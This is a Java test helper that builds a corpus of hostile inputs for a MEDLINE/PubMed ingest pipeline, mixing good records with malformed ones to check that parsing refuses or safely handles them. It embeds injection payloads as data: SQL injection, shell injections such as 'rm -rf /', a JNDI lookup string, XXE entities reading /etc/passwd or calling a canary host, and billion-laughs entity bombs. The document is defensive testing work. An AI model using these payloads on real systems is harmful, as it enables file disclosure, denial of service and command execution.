package org.medlinestream.reliability;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.GZIPOutputStream;

/**
 * The generated part of the hostile corpus ({@code src/test/resources/hostile/generated}, kept equal
 * to this by {@link HostileCorpusTest}): bad inputs of every kind the issue lists, each file with
 * good records beside the bad ones where its format allows. {@value #CANARY} in a file stands for
 * the {@code host:port} of the test's canary socket, which must never be contacted.
 */
final class HostileCorpus {
  static final String CANARY = "@CANARY@";
  static final long FIRST_GOOD_PMID = 42_000_000L;
  static final long FIRST_HOSTILE_PMID = 43_000_000L;

  /** Shell, SQL, format-string, markup and lookup metacharacters, each placed in every field. */
  static final List<String> METACHARACTERS = List.of(
      "'; DROP TABLE citations; --",
      "\" OR \"1\"=\"1",
      "Robert'); DELETE FROM authors WHERE ('1'='1",
      "$(touch /tmp/medline-pwned)",
      "`touch /tmp/medline-pwned`",
      "| rm -rf / ; && echo pwned || true",
      "%s%s%s%n%x {0} {} %d",
      "${jndi:ldap://" + CANARY + "/a} ${env:HOME} ${sys:user.name}",
      "<script>alert(1)</script> & <b>",
      "\\'; \\\" \\\\ \\n \\0 \\x00",
      "* ? [a-z] ~ # ! > < >> 2>&1",
      "E'\\\\' || chr(39) || $$dollar$$ quoted $tag$ x $tag$",
      "Ω≈ç√ 中文 עברית العربية 🙂 é\u0301");

  private final List<HostileInput> inputs = new ArrayList<>();
  private final Random random = new Random(2026);
  private long goodPmids;
  private long hostilePmids;

  /** Every generated input, in a stable order. */
  static List<HostileInput> generate() {
    HostileCorpus corpus = new HostileCorpus();
    corpus.nonNumericPmids();
    corpus.invalidUtf8();
    corpus.tagsWithoutValues();
    corpus.metacharacters();
    corpus.truncated();
    corpus.binary();
    corpus.giant();
    corpus.duplicates();
    corpus.controlCharacters();
    corpus.xmlEntities();
    corpus.deepNesting();
    return corpus.inputs;
  }

  private void nonNumericPmids() {
    List<String> pmids = List.of("abc", "-1", "0", "007", "1.5", "1e9", "12 34", "0x1F", "+42",
        "99999999999999999999999", "NaN", "\u0661\u0662\u0663", "\uFF11\uFF12", "12;DROP",
        "$(id)", "1'--", "", "PMID", "4,2", "\u221E");
    for (int i = 0; i < pmids.size(); i++) {
      String bad = pmids.get(i);
      text("pmid-" + i, Expect.REFUSED, "PMID- " + bad + "\nTI  - pmid " + i + "\n\n");
      xml("pmid-" + i, Expect.REFUSED,
          MedlineRecords.xml(MedlineRecords.escapeXml(bad), "pmid " + i));
    }
  }

  private void invalidUtf8() {
    byte[][] sequences = {{(byte) 0x80}, {(byte) 0xC0, (byte) 0x80}, {(byte) 0xC3},
        {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80},
        {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xE9}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80,
        (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xFE}};
    for (int i = 0; i < sequences.length; i++) {
      String pmid = hostilePmid();
      text("utf8-" + i, Expect.REFUSED,
          concat(("PMID- " + pmid + "\nTI  - invalid ").getBytes(UTF_8), sequences[i],
              " UTF-8\n\n".getBytes(UTF_8)));
      xml("utf8-" + i, Expect.REFUSED, concat(
          MedlineRecords.xml(hostilePmid(), "invalid").replace("invalid</", "invalid @</")
              .split("@")[0].getBytes(UTF_8),
          sequences[i], "</ArticleTitle><Language>eng</Language></Article></MedlineCitation>"
              .concat("</PubmedArticle>\n").getBytes(UTF_8)));
    }
  }

  private void tagsWithoutValues() {
    List<String> tags = List.of("TI  -", "AB  -", "AU  -", "FAU -", "LR  -", "DP  -", "AID -",
        "MH  -", "PT  -", "LA  -", "JT  -", "SO  -", "DCOM-", "OWN -", "STAT-", "PMC -", "SI  -",
        "OT  -", "GR  -", "CIN -");
    for (int i = 0; i < tags.size(); i++) {
      String pmid = hostilePmid();
      text("empty-tag-" + i, Expect.ANY, "PMID- " + pmid + "\n" + tags.get(i) + "\n"
          + tags.get(i) + " \nTI  - empty tag " + i + "\n\n");
    }
    text("empty-tag-pmid", Expect.REFUSED, "PMID-\nTI  - no PMID value\n\n");
    text("empty-tag-pmid-space", Expect.REFUSED, "PMID- \nTI  - no PMID value\n\n");
    List<String> elements = List.of("<PMID/>", "<PMID></PMID>", "<PMID> </PMID>");
    for (int i = 0; i < elements.size(); i++) {
      xmlRaw("empty-element-" + i, Expect.REFUSED, MedlineRecords.xml("@", "empty")
          .replace("<PMID Version=\"1\">@</PMID>", elements.get(i)));
    }
    xml("empty-title", Expect.ANY, MedlineRecords.xml(hostilePmid(), ""));
  }

  private void metacharacters() {
    for (int i = 0; i < METACHARACTERS.size(); i++) {
      String payload = METACHARACTERS.get(i).replace(CANARY, "127.0.0.1:1");
      String pmid = hostilePmid();
      String everyField = String.join("", List.of("AB  - ", "FAU - ", "AU  - ", "AD  - ",
              "MH  - ", "OT  - ", "AID - ", "JT  - ", "TA  - ", "PL  - ", "SI  - ", "GR  - ",
              "CI  - ", "OTO - ", "PHST- ").stream().map(tag -> tag + payload + "\n").toList());
      add("meta-" + i + ".txt", Expect.ARRIVES,
          (good() + MedlineRecords.text(pmid, "20210104", "meta " + payload, everyField)
              + good()).getBytes(UTF_8),
          pmid, "meta " + payload);
      String xmlPmid = hostilePmid();
      add("meta-" + i + ".xml", Expect.ARRIVES, MedlineRecords.xmlSet("",
              goodXml() + MedlineRecords.xml(xmlPmid, MedlineRecords.escapeXml("meta " + payload))
                  + goodXml()).getBytes(UTF_8),
          xmlPmid, "meta " + payload);
    }
  }

  private void truncated() {
    String text = good() + MedlineRecords.text(hostilePmid(), "a record cut short") + good();
    String xml = MedlineRecords.xmlSet("", goodXml() + MedlineRecords.xml(hostilePmid(),
        "an article cut short") + goodXml());
    for (int i = 0; i < 10; i++) {
      String textCut = text.substring(0, 1 + random.nextInt(text.length() - 1));
      inputs.add(new HostileInput("truncated-" + i + ".txt", textCut.getBytes(UTF_8), Expect.ANY,
          Map.of()));
      String xmlCut = xml.substring(0, 1 + random.nextInt(xml.length() - 40));
      inputs.add(new HostileInput("truncated-" + i + ".xml", xmlCut.getBytes(UTF_8),
          Expect.REFUSED, Map.of()));
    }
  }

  private void binary() {
    for (int i = 0; i < 8; i++) {
      byte[] noise = new byte[256 + random.nextInt(8192)];
      random.nextBytes(noise);
      inputs.add(new HostileInput("binary-" + i + (i % 2 == 0 ? ".txt" : ".xml"), noise,
          Expect.REFUSED, Map.of()));
    }
    byte[] zeros = new byte[4096];
    inputs.add(new HostileInput("binary-zeros.txt", zeros, Expect.REFUSED, Map.of()));
    inputs.add(new HostileInput("binary-gzip-garbage.txt.gz",
        concat(new byte[] {0x1f, (byte) 0x8b, 8, 0}, zeros), Expect.REFUSED, Map.of()));
    inputs.add(new HostileInput("utf16.xml",
        MedlineRecords.xmlSet("", MedlineRecords.xml(hostilePmid(), "UTF-16"))
            .getBytes(java.nio.charset.StandardCharsets.UTF_16), Expect.REFUSED, Map.of()));
  }

  /** Larger than ingest's record bounds (16 MiB text, 64 MiB XML), gzipped to stay small here. */
  private void giant() {
    String pmid = hostilePmid();
    String line = "TI  - " + "giant line ".repeat((17 << 20) / 11) + "\n";
    gzip("giant-line", Expect.REFUSED,
        good() + "PMID- " + pmid + "\n" + line + "\n" + good());
    String manyLines = "AU  - Author A\n".repeat((17 << 20) / 15);
    gzip("giant-record", Expect.REFUSED,
        good() + "PMID- " + hostilePmid() + "\nTI  - many authors\n" + manyLines + "\n"
            + good());
    String bigButFine = "AB  - " + "a long abstract ".repeat(40_000) + "\n";
    String bigPmid = hostilePmid();
    gzip("large-record", Expect.ANY,
        good() + MedlineRecords.text(bigPmid, "20210104", "large", bigButFine) + good());
    String overKafka = "AB  - " + "over a megabyte ".repeat(200_000) + "\n";
    gzip("over-kafka-limit", Expect.ANY, good()
        + MedlineRecords.text(hostilePmid(), "20210104", "over Kafka's limit", overKafka) + good());
    String xmlTitle = "giant title ".repeat((65 << 20) / 12);
    gzipXml("giant-article", Expect.REFUSED,
        goodXml() + MedlineRecords.xml(hostilePmid(), xmlTitle) + goodXml());
  }

  private void duplicates() {
    for (int i = 0; i < 5; i++) {
      String pmid = hostilePmid();
      StringBuilder text = new StringBuilder();
      for (int copy = 0; copy <= i % 3 + 1; copy++) {
        text.append(MedlineRecords.text(pmid, "duplicate " + pmid + " copy " + copy));
      }
      String last = "duplicate " + pmid + " copy " + (i % 3 + 1);
      add("duplicate-" + i + ".txt", Expect.ARRIVES, text.toString().getBytes(UTF_8), pmid, last);
      String xmlPmid = hostilePmid();
      add("duplicate-" + i + ".xml", Expect.ARRIVES, MedlineRecords.xmlSet("",
              MedlineRecords.xml(xmlPmid, "first copy") + MedlineRecords.xml(xmlPmid, "last copy"))
          .getBytes(UTF_8), xmlPmid, "last copy");
    }
  }

  private void controlCharacters() {
    List<String> controls = List.of("\u0000", "\u0001", "\u0007", "\u001B[31m", "\u007F",
        "\r", "\f", "\u000B");
    for (int i = 0; i < controls.size(); i++) {
      text("control-" + i, Expect.ANY, "PMID- " + hostilePmid() + "\nTI  - control "
          + controls.get(i) + " character\n\n");
      // DEL is a legal XML character; the others are not.
      xml("control-" + i, controls.get(i).equals("\u007F") ? Expect.ANY : Expect.REFUSED,
          MedlineRecords.xml(hostilePmid(), "control " + controls.get(i) + " character")
              .replace("\r", "&#0;"));
    }
    text("crlf", Expect.ANY, MedlineRecords.text(hostilePmid(), "CR LF line ends")
        .replace("\n", "\r\n"));
    text("cr-only", Expect.ANY, MedlineRecords.text(hostilePmid(), "CR line ends")
        .replace("\n", "\r") + "\n");
  }

  private void xmlEntities() {
    String article = MedlineRecords.xml(hostilePmid(), "&xxe;");
    List<String> doctypes = List.of(
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM \"http://" + CANARY + "/xxe\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY % p SYSTEM \"http://" + CANARY
            + "/p.dtd\"> %p;]>\n",
        "<!DOCTYPE PubmedArticleSet SYSTEM \"http://" + CANARY + "/pubmed.dtd\" [<!ENTITY xxe "
            + "\"x\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM \"jar:http://" + CANARY
            + "/a.jar!/x\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM \"ftp://" + CANARY + "/x\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM \"/dev/random\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe PUBLIC \"-//X//Y\" \"http://" + CANARY
            + "/pub\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe \"internal &#x26;#60;\">]>\n",
        "<!DOCTYPE PubmedArticleSet [<!ENTITY xxe SYSTEM \"netdoc:///etc/passwd\">]>\n");
    for (int i = 0; i < doctypes.size(); i++) {
      xmlRaw("xxe-" + i, Expect.REFUSED, MedlineRecords.xmlSet(doctypes.get(i), article));
    }
    for (int depth : new int[] {5, 9, 30}) {
      StringBuilder laughs = new StringBuilder("<!DOCTYPE PubmedArticleSet [<!ENTITY lol0 \"lol\">");
      for (int i = 1; i <= depth; i++) {
        laughs.append("<!ENTITY lol").append(i).append(" \"")
            .append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
      }
      xmlRaw("billion-laughs-" + depth, Expect.REFUSED, MedlineRecords.xmlSet(
          laughs + "]>\n", MedlineRecords.xml(hostilePmid(), "&lol" + depth + ";")));
    }
    xmlRaw("quadratic-blowup", Expect.REFUSED, MedlineRecords.xmlSet(
        "<!DOCTYPE PubmedArticleSet [<!ENTITY a \"" + "a".repeat(50_000) + "\">]>\n",
        MedlineRecords.xml(hostilePmid(), "&a;".repeat(5_000))));
    xmlRaw("undeclared-entity", Expect.REFUSED, MedlineRecords.xmlSet("",
        goodXml() + MedlineRecords.xml(hostilePmid(), "&xxe;") + goodXml()));
    for (String url : List.of("http://" + CANARY + "/pubmed_250101.dtd",
        "https://" + CANARY + "/pubmed.dtd", "file:///etc/passwd")) {
      String prolog = "<!DOCTYPE PubmedArticleSet PUBLIC \"-//NLM//DTD PubMedArticle, 1st January "
          + "2025//EN\" \"" + url + "\">\n";
      add("doctype-" + inputs.size() + ".xml", Expect.ARRIVES,
          MedlineRecords.xmlSet(prolog, goodXml() + goodXml()).getBytes(UTF_8));
    }
    xmlRaw("xinclude", Expect.ANY, MedlineRecords.xmlSet("", goodXml()
        + MedlineRecords.xml(hostilePmid(), "<xi:include xmlns:xi=\"http://www.w3.org/2001/"
            + "XInclude\" href=\"http://" + CANARY + "/xi\"/>") + goodXml()));
    xmlRaw("stylesheet", Expect.ANY, "<?xml version=\"1.0\"?>\n<?xml-stylesheet href=\"http://"
        + CANARY + "/s.xsl\"?>\n<PubmedArticleSet>\n" + goodXml() + "</PubmedArticleSet>\n");
  }

  private void deepNesting() {
    for (int depth : new int[] {100, 5_000, 50_000}) {
      String open = "<i>".repeat(depth);
      String close = "</i>".repeat(depth);
      xmlRaw("deep-in-title-" + depth, Expect.ANY, MedlineRecords.xmlSet("",
          goodXml() + MedlineRecords.xml(hostilePmid(), open + "deep" + close) + goodXml()));
      xmlRaw("deep-around-set-" + depth, Expect.REFUSED, "<?xml version=\"1.0\"?>\n"
          + "<a>".repeat(depth) + "<PubmedArticleSet>"
          + MedlineRecords.xml(hostilePmid(), "inside deep nesting") + "</PubmedArticleSet>"
          + "</a>".repeat(depth) + "\n");
    }
  }

  // ------------------------------------------------------------------ building inputs

  /** A MEDLINE text file: a good record, the hostile part, a good record. */
  private void text(String name, Expect expect, String hostile) {
    text(name, expect, hostile.getBytes(UTF_8));
  }

  private void text(String name, Expect expect, byte[] hostile) {
    String before = good();
    String after = good();
    HostileInput input = new HostileInput(name + ".txt",
        concat(before.getBytes(UTF_8), hostile, after.getBytes(UTF_8)), expect, new LinkedHashMap<>());
    input.arrives().putAll(goodTitles(before + after));
    inputs.add(input);
  }

  /** A PubMed XML file: a good article, the hostile one, a good article. */
  private void xml(String name, Expect expect, String hostileArticle) {
    xml(name, expect, hostileArticle.getBytes(UTF_8));
  }

  private void xml(String name, Expect expect, byte[] hostileArticle) {
    String before = goodXml();
    String after = goodXml();
    byte[] bytes = concat(
        MedlineRecords.xmlSet("", before).replace("</PubmedArticleSet>\n", "").getBytes(UTF_8),
        hostileArticle, (after + "</PubmedArticleSet>\n").getBytes(UTF_8));
    HostileInput input = new HostileInput(name + ".xml", bytes, expect, new LinkedHashMap<>());
    input.arrives().putAll(goodTitles(before + after));
    inputs.add(input);
  }

  /** A whole XML document as written; the good articles in it must arrive unless refused. */
  private void xmlRaw(String name, Expect expect, String document) {
    HostileInput input = new HostileInput(name + ".xml", document.getBytes(UTF_8), expect,
        new LinkedHashMap<>());
    input.arrives().putAll(goodTitles(document));
    inputs.add(input);
  }

  private void gzip(String name, Expect expect, String text) {
    HostileInput input = new HostileInput(name + ".txt.gz", gzipped(text.getBytes(UTF_8)),
        expect, new LinkedHashMap<>());
    input.arrives().putAll(goodTitles(text));
    inputs.add(input);
  }

  private void gzipXml(String name, Expect expect, String articles) {
    String document = MedlineRecords.xmlSet("", articles);
    HostileInput input = new HostileInput(name + ".xml.gz", gzipped(document.getBytes(UTF_8)),
        expect, new LinkedHashMap<>());
    input.arrives().putAll(goodTitles(document));
    inputs.add(input);
  }

  /** A file all of whose records must arrive: the good ones, and {@code pmidTitle} pairs. */
  private void add(String name, Expect expect, byte[] bytes, String... pmidTitle) {
    HostileInput input = new HostileInput(name, bytes, expect, new LinkedHashMap<>());
    input.arrives().putAll(goodTitles(new String(bytes, UTF_8)));
    for (int i = 0; i < pmidTitle.length; i += 2) {
      input.arrives().put(pmidTitle[i], pmidTitle[i + 1]);
    }
    inputs.add(input);
  }

  private String good() {
    String pmid = Long.toString(FIRST_GOOD_PMID + goodPmids++);
    return MedlineRecords.text(pmid, goodTitle(pmid));
  }

  private String goodXml() {
    String pmid = Long.toString(FIRST_GOOD_PMID + goodPmids++);
    return MedlineRecords.xml(pmid, goodTitle(pmid));
  }

  private String hostilePmid() {
    return Long.toString(FIRST_HOSTILE_PMID + hostilePmids++);
  }

  static String goodTitle(String pmid) {
    return "Good record " + pmid + ".";
  }

  /** The good records written into {@code text}, by the titles that name them. */
  private static Map<String, String> goodTitles(String text) {
    Map<String, String> titles = new LinkedHashMap<>();
    java.util.regex.Matcher good = java.util.regex.Pattern.compile("Good record (\\d+)\\.")
        .matcher(text);
    while (good.find()) {
      titles.put(good.group(1), good.group());
    }
    return titles;
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  private static byte[] gzipped(byte[] bytes) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(bytes);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }
}
